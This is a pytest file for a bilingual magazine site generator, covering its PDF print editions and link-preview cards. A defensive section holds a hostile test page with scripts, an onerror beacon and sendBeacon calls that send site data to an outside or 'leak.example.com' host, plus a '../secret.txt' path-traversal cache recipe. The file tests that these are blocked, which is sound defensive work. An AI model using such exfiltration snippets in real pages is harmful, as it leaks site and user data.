"""The print editions (PDF) and link-preview cards, read as a reader's PDF viewer, a printer
and a messaging app would: text extracted by poppler in reading order, pages and fonts and
bookmarks read by pypdf, pictures opened by Pillow, the previews' meta tags parsed."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader

from conftest import EDITIONS_ON, Project, html
from maagal.editions.cards import CardJob
from maagal.editions.print_pages import PrintJob, PrintSource
from maagal.editions.render import EditionRenderer
from outside import outside_address
from word_documents import png

pytestmark = [pytest.mark.slow, pytest.mark.browser]  # each draws with Chromium or reads it

if shutil.which("chromium") is None or shutil.which("pdftotext") is None:
    # Skipped on a developer's machine, failed under CI: a CI machine cannot pass by skipping.
    message = "needs Debian's chromium and poppler-utils (make test installs them)"
    if os.environ.get("CI"):
        raise RuntimeError(message)
    pytest.skip(message, allow_module_level=True)

A4 = (595, 842)  # points
WORD = re.compile(r"[\u05d0-\u05ea\u05f3\u05f4\"׳״]+|[A-Za-z’']+|\d+")
ISSUE_4 = {
    "he": [
        "רכש אזורי משותף: החיסכון מתחיל בשיחה",
        "חינוך אזורי: הילדים שלנו, הילדים של כולם",
        "פורום המזכירים האזורי: ממפגש לא רשמי למוסד",
        "בנק שעות בין קיבוצים: עבודה תמורת עבודה",
    ],
    "en": [
        "Joint Regional Purchasing: Savings Start with a Conversation",
        "Regional Education: Our Children, Everyone’s Children",
        "The Regional Secretaries’ Forum: From Informal Meeting to Institution",
        "A Time Bank Between Kibbutzim: Work for Work",
    ],
}


DAY = dt.date(2027, 1, 1)


def pdf_text(path: Path, page: int | None = None) -> str:
    """The words poppler extracts (in logical order), one space between them.

    Words and numbers only: where a colon or a dot comes from the Latin font between Hebrew
    words, poppler gives the punctuation its own direction and moves it a place (`משותף :החיסכון`);
    the words and their order are what a reader's copy or a search finds."""
    pages = ["-f", str(page), "-l", str(page)] if page else []
    done = subprocess.run(
        ["pdftotext", *pages, str(path), "-"], capture_output=True, text=True, check=True
    )
    return words(done.stdout)


def words(text: str) -> str:
    return " ".join(WORD.findall(text))


def outline_titles(reader: PdfReader) -> list[tuple[str, int]]:
    found: list[tuple[str, int]] = []

    def walk(items: list) -> None:
        for item in items:
            if isinstance(item, list):
                walk(item)
            else:
                found.append((item.title, reader.get_destination_page_number(item) + 1))

    walk(reader.outline)
    return found


def print_link(page_html: Path) -> Path:
    """The PDF the page offers for download and print, as a file of the built site."""
    link = html(page_html).select_one(".maagal-print-edition a[download]")
    assert link is not None, f"{page_html} offers no print edition"
    return (page_html.parent / link["href"]).resolve()


# -- the issue ----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["he", "en"])
def test_an_issue_prints_as_an_a4_pdf_with_every_article(sample_site: Path, lang: str) -> None:
    prefix = "" if lang == "he" else "en/"
    pdf = print_link(sample_site / prefix / "issues/4/index.html")
    assert pdf == (sample_site / prefix / "issues/4/issue-04.pdf").resolve()
    reader = PdfReader(pdf)
    # A cover, the editorial with the contents, and at least a page per article.
    assert 1 + 1 + len(ISSUE_4[lang]) <= len(reader.pages) <= 30
    for page in reader.pages:
        size = (round(float(page.mediabox.width)), round(float(page.mediabox.height)))
        assert size == A4
    text = pdf_text(pdf)
    for title in ISSUE_4[lang]:
        assert words(title) in text
    assert reader.metadata.title.startswith({"he": "גיליון 4", "en": "Issue 4"}[lang])
    assert reader.trailer["/Root"]["/Lang"] == lang


def test_the_contents_give_the_page_each_article_starts_on(sample_site: Path) -> None:
    pdf = sample_site / "issues/4/issue-04.pdf"
    contents = pdf_text(pdf, 2)
    assert words("תוכן העניינים") in contents
    for title in ISSUE_4["he"]:
        number = re.search(re.escape(words(title)) + r".*?(\d+)", contents)
        assert number, f"no page number after {title!r} in {contents!r}"
        page = int(number.group(1))
        # The article's page: the running head, its kicker, then its title.
        start = words(f"גיליון 4 · נובמבר 2017 {title}")  # the article's kicker, its title
        assert start in pdf_text(pdf, page), f"{title!r} does not start on page {page}"
        assert start not in pdf_text(pdf, page - 1)


def test_hebrew_extracts_in_reading_order_with_running_head_and_page_numbers(
    sample_site: Path,
) -> None:
    pdf = sample_site / "issues/4/issue-04.pdf"
    editorial = pdf_text(pdf, 2)
    assert words("קיבוץ אחד הוא קהילה. עשרה קיבוצים שעובדים יחד הם כוח.") in editorial
    third = pdf_text(pdf, 3)
    assert third.startswith(words("המעגל השיתופי · גיליון 4 · נובמבר 2017"))  # the running head
    assert third.endswith(" 3")  # the page number
    assert words("אמיר סלע ויואב כרמי") in third  # the byline
    assert pdf_text(pdf, 1).startswith("המעגל השיתופי")  # the cover: no running head


def test_pull_quotes_figures_and_links_reach_the_paper(sample_site: Path) -> None:
    pdf = sample_site / "issues/4/issue-04.pdf"
    reader = PdfReader(pdf)
    links = [
        annotation.get_object()["/A"].get("/URI")
        for page in reader.pages
        for annotation in page.get("/Annots") or []
        if annotation.get_object().get("/A")
    ]
    assert "https://maagal.example/issues/4/regional-purchasing/" in links
    text = pdf_text(pdf)
    # The article's chart (an SVG figure) is drawn, with its caption under it.
    assert words("החיסכון השנתי הממוצע לקיבוץ בכל אחד מתחומי הרכש המשותף") in text
    assert (
        "12" in text.split() and "18" in text.split()
    )  # the chart's own labels: a picture, not a box
    # The pull quote and whose words it is.
    assert words("החיסכון הוא הסיבה להתחיל. האמון הוא הסיבה להמשיך. — אמיר סלע") in text


def test_fonts_are_embedded(sample_site: Path) -> None:
    for pdf in (sample_site / "issues/4/issue-04.pdf", sample_site / "en/issues/4/issue-04.pdf"):
        reader = PdfReader(pdf)
        fonts = {}
        for page in reader.pages:
            resources = page["/Resources"].get_object()
            for name, font in (resources.get("/Font") or {}).items():
                fonts[name] = font.get_object()
        assert fonts
        for font in fonts.values():
            if font["/Subtype"] == "/Type3":
                continue  # glyphs drawn in the file itself
            descendant = (
                font["/DescendantFonts"][0].get_object() if "/DescendantFonts" in font else font
            )
            descriptor = descendant["/FontDescriptor"].get_object()
            assert any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3"))


def test_bookmarks_read_in_order_and_lead_to_the_articles(sample_site: Path) -> None:
    reader = PdfReader(sample_site / "issues/4/issue-04.pdf")
    bookmarks = outline_titles(reader)
    titles = [title for title, _ in bookmarks]
    for title in ISSUE_4["he"]:
        assert title in titles  # as written, not in the visual order Chromium stores
    contents = pdf_text(sample_site / "issues/4/issue-04.pdf", 2)
    for title, page in bookmarks:
        if title in ISSUE_4["he"]:
            assert re.search(re.escape(words(title)) + rf".*?{page}\b", contents)


@pytest.mark.parametrize(
    ("pdf", "page"),
    [
        ("issues/4/issue-04.pdf", "issues/4/regional-purchasing/index.html"),
        ("en/issues/4/issue-04.pdf", "en/issues/4/regional-purchasing/index.html"),
        (
            "papers/classification-2005/classification-2005.pdf",
            "papers/classification-2005/index.html",
        ),
    ],
)
def test_sub_heading_bookmarks_read_as_the_headings(sample_site: Path, pdf: str, page: str) -> None:
    """Each sub-heading's bookmark is the heading as a reader sees it, without the "¶" of the
    heading's permalink on the site."""
    titles = [title for title, _ in outline_titles(PdfReader(sample_site / pdf))]
    assert not [t for t in titles if "¶" in t], titles
    content = html(sample_site / page).select_one(".md-content")
    for link in content.select("a.headerlink"):
        link.decompose()
    subheadings = [h.get_text(" ", strip=True) for h in content.select("h2")]
    assert subheadings and set(subheadings) <= set(titles), (subheadings, titles)


# -- the paper ------------------------------------------------------------------------------------


def test_a_paper_prints_with_a_title_page(sample_site: Path) -> None:
    pdf = print_link(sample_site / "papers/classification-2012/index.html")
    first = pdf_text(pdf, 1)
    assert words("סיווג קיבוצים מעודכן – ממדדים קשיחים לתמונה רב-ממדית") in first
    assert words("צוות סיווג הקיבוצים") in first
    assert words("אומץ") in first  # the status, in words
    assert re.search(r"תש[א-ת\"׳״]+", first)  # the Hebrew date
    assert len(PdfReader(pdf).pages) >= 2


def test_a_superseded_paper_says_so_on_its_title_page(sample_site: Path) -> None:
    first = pdf_text(print_link(sample_site / "en/papers/classification-2005/index.html"), 1)
    assert words("This paper has been superseded") in first
    assert words("Updated Kibbutz Classification") in first


# -- the cards ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rel",
    [
        "issues/4/regional-purchasing/index.html",
        "en/issues/4/regional-purchasing/index.html",
        "issues/4/index.html",
        "papers/land-rights/index.html",
        "en/papers/land-rights/index.html",
    ],
)
def test_a_shared_link_shows_its_card(sample_site: Path, rel: str) -> None:
    page = html(sample_site / rel)
    tags = {m["property"]: m["content"] for m in page.select("meta[property^='og:image']")}
    image = tags["og:image"]
    assert image == "https://maagal.example/" + rel.removesuffix("index.html") + "card.png"
    with Image.open(sample_site / image.removeprefix("https://maagal.example/")) as card:
        assert card.size == (1200, 630) and card.format == "PNG"
    assert (tags["og:image:width"], tags["og:image:height"]) == ("1200", "630")
    assert tags["og:image:alt"] == page.select_one("meta[property='og:title']")["content"]
    assert page.select_one("meta[name='twitter:card']")["content"] == "summary_large_image"


def test_every_meeting_has_a_card(sample_site: Path) -> None:
    pages = [p for p in (sample_site / "events").glob("*/index.html")]
    assert pages
    for page in pages:
        assert (page.parent / "card.png").is_file(), page


def test_hebrew_and_english_cards_differ_in_direction(sample_site: Path) -> None:
    """The Hebrew card's words are set from the right, the English one's from the left."""

    def ink_columns(path: Path) -> tuple[int, int]:
        with Image.open(path) as card:
            # The kicker's line ('נייר עמדה · אומץ'), short, without the green band at the edge.
            band = card.convert("L").crop((40, 60, 1160, 110))
            columns = band.resize((band.width, 1), Image.Resampling.BOX)  # each column's mean
            dark = [x + 40 for x in range(band.width) if columns.getpixel((x, 0)) < 235]
        assert dark, f"{path}: no words where the kicker should be"
        return dark[0], dark[-1]

    he_left, he_right = ink_columns(sample_site / "papers/land-rights/card.png")
    en_left, en_right = ink_columns(sample_site / "en/papers/land-rights/card.png")
    assert 1200 - he_right < 150 < he_left  # the Hebrew kicker hugs the right edge
    assert en_left < 150 < 1200 - en_right  # the English one the left


# -- how the build draws them ---------------------------------------------------------------------


def _drawn(project: Project) -> dict[str, bytes]:
    site = project.root / "site"
    return {
        str(p.relative_to(site)): p.read_bytes()
        for p in sorted(site.rglob("*"))
        if (p.suffix == ".pdf" or p.name == "card.png") and p.is_file()
    }


def test_the_same_input_gives_the_same_bytes_and_the_cache_draws_only_what_changed(
    project: Project,
) -> None:
    project.write(
        "position_papers/housing.md",
        '---\ntitle: דו"ח הדיור </style>\nteam: צוות הדיור\nstatus: adopted\ndate: 2005-09-20\n'
        "---\nתקציר.\n",
    )
    assert project.maagal("build", "--no-cache", env=EDITIONS_ON).code == 0
    cold = _drawn(project)
    assert {"issues/1/issue-01.pdf", "en/issues/1/issue-01.pdf", "issues/1/first/card.png"} <= set(
        cold
    )
    assert not (project.root / ".cache").exists()  # --no-cache: nothing kept
    # A quote and '</style>' in the title reach the running head as typed.
    head = pdf_text(project.root / "site/papers/housing/housing.pdf", 2)
    assert head.startswith(words('המעגל השיתופי · נייר עמדה · דו"ח הדיור </style>'))

    assert project.maagal("build", env=EDITIONS_ON).code == 0
    assert _drawn(project) == cold  # drawn again from nothing: the same bytes
    cache = project.root / ".cache/maagal/editions"
    kept = {p: p.stat().st_mtime_ns for p in cache.rglob("*") if p.suffix in (".pdf", ".png")}
    assert len(kept) == len(cold)
    # Kept without a copy: the site's file is the kept one (a hard link), not read again.
    card = project.root / "site/issues/1/first/card.png"
    assert card.stat().st_nlink == 2
    assert any(card.samefile(p) for p in kept)

    # One article's title changes: its card and its issue's PDF are drawn again, nothing else.
    project.write(
        "issues/1/first.md",
        "---\ntitle: מאמר ראשון, מתוקן\nauthors: [noa-barkai]\norder: 1\n---\nפסקה.\n",
    )
    result = project.maagal("build", env=EDITIONS_ON)
    assert result.code == 0, result.text
    warm = _drawn(project)
    changed = {path for path in cold if warm[path] != cold[path]}
    assert changed == {"issues/1/first/card.png", "issues/1/issue-01.pdf"}
    still = {p for p, mtime in kept.items() if p.exists() and p.stat().st_mtime_ns == mtime}
    assert len(still) == len(kept) - 2  # the two old entries were forgotten, the rest reused
    assert words("מאמר ראשון, מתוקן") in pdf_text(project.root / "site/issues/1/issue-01.pdf")


def test_a_kept_pdf_is_found_by_its_pages_keys_without_making_its_print_page(
    tmp_path: Path,
) -> None:
    """A warm build finds a kept PDF by the keys of the pages it prints (`kept.Recipe`): its
    print page is not made. Other keys, or a file the page loads with other bytes, make the
    print page again, and a page that loads other bytes is drawn again."""
    site, cache = tmp_path / "site", tmp_path / "cache"
    site.mkdir()
    (site / "style.css").write_text("p { font-size: 11pt; }")
    made: list[str] = []

    def source(body: str) -> PrintSource:
        def make() -> PrintJob:
            made.append(body)
            page = _print_page("גיליון 1", f"<p>{body}</p>")
            return _first_issue_print(page)

        return PrintSource("issues/1/issue-01.pdf", (), make)

    def draw(body: str, key: str) -> bytes:
        EditionRenderer(site, cache).render([source(body)], [], {"issues/1/issue-01.pdf": key})
        return (site / "issues/1/issue-01.pdf").read_bytes()

    first = draw("פסקה ראשונה", "keys-1")
    assert made == ["פסקה ראשונה"] and words("פסקה ראשונה") in pdf_text(
        site / "issues/1/issue-01.pdf"
    )
    # The same keys: the kept PDF, and no print page made (the body given is not looked at).
    assert draw("פסקה שלא נכתבה", "keys-1") == first
    assert made == ["פסקה ראשונה"]
    # Other keys: the print page is made; the same page finds its kept PDF by its digest.
    assert draw("פסקה ראשונה", "keys-2") == first
    assert made == ["פסקה ראשונה", "פסקה ראשונה"]
    # Other keys and another page: drawn again.
    second = draw("פסקה שנייה", "keys-3")
    assert second != first and words("פסקה שנייה") in pdf_text(site / "issues/1/issue-01.pdf")
    # The same keys, but the stylesheet the page loads has other bytes: made and drawn again.
    (site / "style.css").write_text("p { font-size: 16pt; }")
    assert draw("פסקה שנייה", "keys-3") != second
    assert made[-1] == "פסקה שנייה" and len(made) == 4
    # A recipe written by hand to check a file outside the site: that file is not read (its
    # digest, as a build rooted above it reads it, is not taken for the recipe's).
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")
    secret = EditionRenderer(tmp_path, None)._file_digest(outside)
    recipes = cache / "recipes.json"
    data = json.loads(recipes.read_text())
    key, name, _ = data["recipes"]["issues/1/issue-01.pdf"]
    data["recipes"]["issues/1/issue-01.pdf"] = [key, name, {"/../secret.txt": secret}]
    recipes.write_text(json.dumps(data))
    draw("פסקה שנייה", "keys-3")
    assert len(made) == 5  # the recipe's file is not the page's: the page is made again


def test_a_pdf_kept_by_its_pages_keys_is_drawn_again_when_a_picture_or_the_text_changes(
    project: Project,
) -> None:
    """The recipes of the kept PDFs follow what the pages print: a new text in an article, or
    a picture given other bytes under the same name, draws its issue's PDF again."""
    chart = project.write("issues/1/chart.png", png())
    project.write(
        "issues/1/first.md",
        "---\ntitle: מאמר ראשון\nauthors: [noa-barkai]\norder: 1\n---\nפסקה.\n\n"
        "![תרשים העמודות](chart.png)\n",
    )
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    cold = _drawn(project)
    pdf = project.root / "site/issues/1/issue-01.pdf"

    project.write(
        "issues/1/first.md",
        "---\ntitle: מאמר ראשון\nauthors: [noa-barkai]\norder: 1\n---\nפסקה מתוקנת.\n\n"
        "![תרשים העמודות](chart.png)\n",
    )
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    text = _drawn(project)
    assert {p for p in cold if text[p] != cold[p]} == {"issues/1/issue-01.pdf"}
    assert words("פסקה מתוקנת") in pdf_text(pdf)

    buffer = io.BytesIO()
    Image.new("RGB", (240, 120), (200, 30, 30)).save(buffer, "PNG")
    chart.write_bytes(buffer.getvalue())  # the same name and size, other pixels
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    assert {p for p in cold if _drawn(project)[p] != text[p]} == {"issues/1/issue-01.pdf"}
    image = next(i for page in PdfReader(pdf).pages for i in page.images)
    assert image.image.convert("RGB").getpixel((10, 10)) == (200, 30, 30)


def test_kept_editions_the_old_site_holds_stay_where_they_are_and_go_when_unused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A warm build writes into the site of an earlier one (`run/recycled_site.py`): a kept
    PDF or card linked there already is left where it is, not linked again; a held one the
    build does not place goes, with its folder; one drawn anew in its place stays."""
    from maagal.editions import kept as kept_module
    from maagal.editions.kept import KeptEditions
    from maagal.run import recycled_site

    cache = tmp_path / "cache"
    old, new = tmp_path / "old", tmp_path / "site"
    first = KeptEditions(cache)
    first.put("a.pdf", b"%PDF issue 1", old / "issues/1/issue-01.pdf")
    first.put("b.png", b"card of issue 2", old / "issues/2/card.png")
    first.put("c.pdf", b"%PDF issue 3", old / "issues/3/issue-03.pdf")
    first.close()
    held = old / "issues/1/issue-01.pdf"
    before = held.stat()
    assert before.st_nlink == 2

    old.rename(recycled_site.recycled_folder(new))
    assert recycled_site.adopt(new) == {}
    second = KeptEditions(cache)

    def no_link(source: object, target: object) -> None:
        raise AssertionError(f"linked again: {target}")

    monkeypatch.setattr(kept_module, "link_or_copy", no_link)
    assert second.place("a.pdf", new / "issues/1/issue-01.pdf")
    monkeypatch.undo()
    second.put("d.pdf", b"%PDF issue 3, drawn again", new / "issues/3/issue-03.pdf")
    second.close()
    recycled_site.sweep(new)

    after = (new / "issues/1/issue-01.pdf").stat()
    assert (after.st_ino, after.st_ctime_ns) == (before.st_ino, before.st_ctime_ns)
    assert not (new / "issues/2").exists()  # not placed: gone, and its folder with it
    assert (new / "issues/3/issue-03.pdf").read_bytes() == b"%PDF issue 3, drawn again"


def test_a_damaged_cache_is_drawn_again(project: Project) -> None:
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    good = _drawn(project)
    for entry in (project.root / ".cache/maagal/editions").rglob("*"):
        if entry.is_file():
            data = entry.read_bytes()
            entry.write_bytes(data[: len(data) // 2] + b"\0" * 64)  # cut short, then garbage
    assert project.maagal("build", env=EDITIONS_ON).code == 0
    assert _drawn(project) == good


def test_without_chromium_the_site_is_published_without_them_and_says_so_once(
    project: Project,
) -> None:
    # The publish workflow's setting, on a machine without Google Chrome: named, with the fix.
    absent = "/nonexistent/google-chrome"
    result = project.maagal("build", env={**EDITIONS_ON, "MAAGAL_CHROMIUM": absent})
    assert result.code == 0, result.text
    assert result.err.count(f"MAAGAL_CHROMIUM={absent}, but no '{absent}' was found") == 1
    assert "unset it to use chromium" in result.err
    assert "without its PDF print editions and link-preview cards" in result.err
    assert _drawn(project) == {}
    issue = project.page("issues/1/index.html")
    assert issue.select(".maagal-print-edition") == []
    assert issue.select("meta[property='og:image']") == []  # no card to point at


# -- what the build's browser may do ----------------------------------------------------------


def _hostile_page(outside: str) -> str:
    """A print page as an attacker would write it, if the sanitizer ever let it through: every
    way a page asks for something from elsewhere, and scripts that would send the site out."""
    return f"""<!doctype html>
<html lang="he" dir="rtl"><head><meta charset="utf-8">
<link rel="stylesheet" href="{outside}/style.css">
<link rel="preconnect" href="{outside}"><link rel="dns-prefetch" href="//leak.example.com">
<link rel="prefetch" href="{outside}/prefetch"><link rel="icon" href="{outside}/icon.png">
<meta http-equiv="refresh" content="1;url={outside}/refresh">
<style>
@import url({outside}/import.css);
@font-face {{ font-family: Outside; src: url({outside}/font.woff2); }}
body {{ font-family: Outside, sans-serif; background: url({outside}/background.png); }}
</style></head>
<body><h1>כותרת הגיליון</h1><p>פסקה מן הגיליון.</p>
<img src="/issues/1/chart.png" alt="תרשים מקומי">
<img src="{outside}/picture.png" alt="x" srcset="{outside}/srcset.png 2x">
<iframe src="{outside}/frame"></iframe><object data="{outside}/object"></object>
<video poster="{outside}/poster.png"></video><svg><image href="{outside}/svg.png"/></svg>
<img src="missing.png" alt="" onerror="new Image().src='{outside}/onerror'">
<script>
document.body.insertAdjacentText("beforeend", "SCRIPT RAN");
fetch("/").then(r => r.text()).then(t => fetch("{outside}/leak?" + t.length));
navigator.sendBeacon("{outside}/beacon", "x");
</script>
</body></html>"""


def test_the_build_browser_runs_no_script_and_reaches_nothing_but_the_site(
    tmp_path: Path,
) -> None:
    """The PDFs and cards are drawn from what editors and outsiders wrote: whatever reaches a
    print page, Chromium runs none of its script and asks nothing of any other address."""
    site = tmp_path / "site"
    (site / "issues/1").mkdir(parents=True)
    (site / "issues/1/chart.png").write_bytes(png())
    with outside_address() as outside:
        page = _hostile_page(outside.url)
        job = _first_issue_print(page)
        card = CardJob(
            "issues/1/card.png",
            {
                "lang": "he",
                "dir": "rtl",
                "site": "המעגל",
                "kicker": "גיליון 1",
                "date": "",
                "title": f'<img src="{outside.url}/card.png">',
                "subtitle": "",
            },
        )
        EditionRenderer(site, None).render([job], [card])
        assert outside.settle() == []
    pdf = site / "issues/1/issue-01.pdf"
    text = pdf_text(pdf)
    assert words("כותרת הגיליון פסקה מן הגיליון") in text  # the page was drawn
    assert "SCRIPT RAN" not in text
    drawn_pictures = [picture.image.size for picture in PdfReader(pdf).pages[0].images]
    assert (240, 120) in drawn_pictures, drawn_pictures  # the site's own picture is drawn
    with Image.open(site / "issues/1/card.png") as drawn:
        assert drawn.size == (1200, 630)  # the card is filled in without a script of the page


def test_a_picture_from_another_website_is_refused_and_never_fetched(project: Project) -> None:
    with outside_address() as outside:
        project.write(
            "issues/1/first.md",
            "---\ntitle: מאמר ראשון\nauthors: [noa-barkai]\norder: 1\n---\nפסקה.\n\n"
            f"![הרפת החדשה]({outside.url}/dairy.png)\n",
        )
        result = project.maagal("build", env=EDITIONS_ON)
        assert outside.settle() == []
    assert result.code == 1
    assert f"issues/1/first.md:8: the picture '{outside.url}/dairy.png' is on another website" in (
        result.text
    )
    assert "download the picture and put it beside the article" in result.text
    assert not (project.root / "site").exists()


def test_chromium_gives_up_its_sandbox_only_as_root(monkeypatch: pytest.MonkeyPatch) -> None:
    from maagal.editions import browser

    monkeypatch.setattr(browser.os, "geteuid", lambda: 1001)  # a GitHub runner's user
    assert "--no-sandbox" not in browser.chromium_args(locked=True)
    monkeypatch.setattr(browser.os, "geteuid", lambda: 0)
    assert "--no-sandbox" in browser.chromium_args(locked=True)


def _first_issue_print(page: str) -> PrintJob:
    """The print of issue 1 of a Hebrew site, whose every page is `page`."""
    return PrintJob(
        "issues/1/issue-01.pdf", "גיליון 1", "המעגל", "he", dt.date(2027, 1, 1), lambda _: page
    )


def _print_page(title: str, body: str) -> str:
    """A print page shaped as the templates' are: one stylesheet link, one style, a body."""
    return f"""<!doctype html>
<html lang="he" dir="rtl"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/style.css">
<style>@page {{ size: A4; @top-center {{ content: "{title}"; }} }}</style></head>
<body><h1>{title}</h1>{body}</body></html>"""


def test_a_print_put_over_the_one_before_is_the_print_of_its_own_page(tmp_path: Path) -> None:
    """Prints after the first are put into the page the one before left (its fonts stay
    loaded): each PDF has the bytes of the same page printed alone, and what its body asks of
    another address is still never fetched."""
    site = tmp_path / "site"
    (site / "issues/1").mkdir(parents=True)
    (site / "style.css").write_text("h1 { color: #1d5c4d; } p { font-size: 11pt; }")
    (site / "issues/1/chart.png").write_bytes(png())
    with outside_address() as outside:
        bodies = {
            "first": "<p>פסקה ראשונה.</p>",
            "second": '<p>פסקה שנייה.</p><img src="/issues/1/chart.png" alt="תרשים">'
            f'<img src="{outside.url}/picture.png" alt="x">'
            f"<script>document.body.append('SCRIPT RAN')</script>",
            "third": "<p>Third paragraph, in English.</p>" * 40,
        }
        jobs = [
            PrintJob(
                f"issues/1/{name}.pdf",
                name,
                "המעגל",
                "he",
                dt.date(2027, 1, 1),
                render=lambda _pages, name=name, body=body: _print_page(name, body),
            )
            for name, body in bodies.items()
        ]
        together = EditionRenderer(site, None)
        together.render(jobs, [])
        drawn = {job.path: (site / job.path).read_bytes() for job in jobs}
        for job in jobs[1:]:
            alone = EditionRenderer(site, None)
            alone.render([job], [])
            assert alone.swapped == 0
            assert (site / job.path).read_bytes() == drawn[job.path], job.path
        assert outside.settle() == []
    assert together.swapped >= 1  # (two lanes on four cores: the third one at least)
    second = site / "issues/1/second.pdf"
    assert words("second פסקה שנייה") in pdf_text(second) and "SCRIPT RAN" not in pdf_text(second)
    assert (240, 120) in [picture.image.size for picture in PdfReader(second).pages[0].images]
    assert len(PdfReader(site / "issues/1/third.pdf").pages) == 2


def test_an_english_print_is_finished_without_a_pdf_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Chromium writes an ASCII bookmark title as a literal string (`(Who (we) are)`), where it
    writes Hebrew in hexadecimal: `pdf_file` reads both, so an English print is finished as
    quickly as a Hebrew one (pypdf took 70 ms a PDF), with its titles as written."""
    from maagal.editions import render

    def refused(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("finished with pypdf")

    monkeypatch.setattr(render, "_finish_with_pypdf", refused)
    monkeypatch.setattr(render, "_outline_pages", refused)
    site = tmp_path / "site"
    site.mkdir()
    (site / "style.css").write_text("p { font-size: 11pt; }")
    headings = ["Who (we) are", "Back\\slash and (parentheses", "Plain"]
    body = "".join(f'<h1 style="break-before: page">{h}</h1><p>Words.</p>' for h in headings)
    page = _print_page("Issue 1", body).replace('lang="he" dir="rtl"', 'lang="en" dir="ltr"')
    job = PrintJob(
        "issues/1/issue-01.pdf", "Issue 1 (Cooperation)", "The Circle", "en", DAY, lambda _: page
    )
    EditionRenderer(site, None).render([job], [])
    reader = PdfReader(site / "issues/1/issue-01.pdf")
    assert [title for title, _ in outline_titles(reader)] == ["Issue 1", *headings]
    assert [page for _, page in outline_titles(reader)] == [1, 2, 3, 4]
    assert reader.metadata is not None and reader.metadata.title == "Issue 1 (Cooperation)"
    assert reader.metadata["/CreationDate"] == "D:20270101000000Z"
    assert reader.trailer["/Root"]["/Lang"] == "en"


def test_two_lanes_draw_the_bytes_one_lane_draws(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On four cores a language draws in two browsers fed from one queue (`editions/lanes.py`):
    every PDF and card is the one a single browser draws, and each lands where it belongs."""
    from maagal.editions import render

    site = tmp_path / "site"
    site.mkdir()
    (site / "style.css").write_text("p { font-size: 11pt; }")
    prints = [
        PrintJob(
            f"p/{n}.pdf",
            f"דף {n}",
            "המעגל",
            "he",
            dt.date(2027, 1, 1),
            render=lambda _pages, n=n: _print_page(f"דף {n}", f"<p>{'מילה ' * 40 * n}</p>"),
        )
        for n in range(1, 6)
    ]
    cards = [
        CardJob(
            f"c/{n}.png",
            {
                "lang": "he",
                "dir": "rtl",
                "site": "המעגל",
                "kicker": f"גיליון {n}",
                "date": "",
                "title": f"כותרת מספר {n}",
                "subtitle": "",
            },
        )
        for n in range(1, 7)
    ]

    def drawn(lanes: int) -> dict[str, bytes]:
        monkeypatch.setattr(render, "lanes", lambda jobs: lanes)
        shutil.rmtree(site / "p", ignore_errors=True)
        shutil.rmtree(site / "c", ignore_errors=True)
        EditionRenderer(site, None).render(prints, cards)
        return {
            str(p.relative_to(site)): p.read_bytes()
            for p in sorted(site.rglob("*"))
            if p.suffix in (".pdf", ".png")
        }

    one, two = drawn(1), drawn(2)
    assert len(one) == 11 and two == one
    assert len({data for data in one.values()}) == 11  # each its own: none drawn twice
